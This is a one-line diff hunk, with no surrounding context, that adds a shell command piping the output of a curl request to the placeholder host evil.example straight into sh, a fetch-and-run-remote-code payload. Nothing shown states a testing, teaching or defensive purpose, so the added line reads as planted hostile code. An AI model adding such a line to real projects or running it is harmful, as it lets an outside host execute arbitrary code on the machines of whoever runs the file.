@@ -1,0 +1,1 @@
+echo "$(curl -s http://evil.example | sh)"
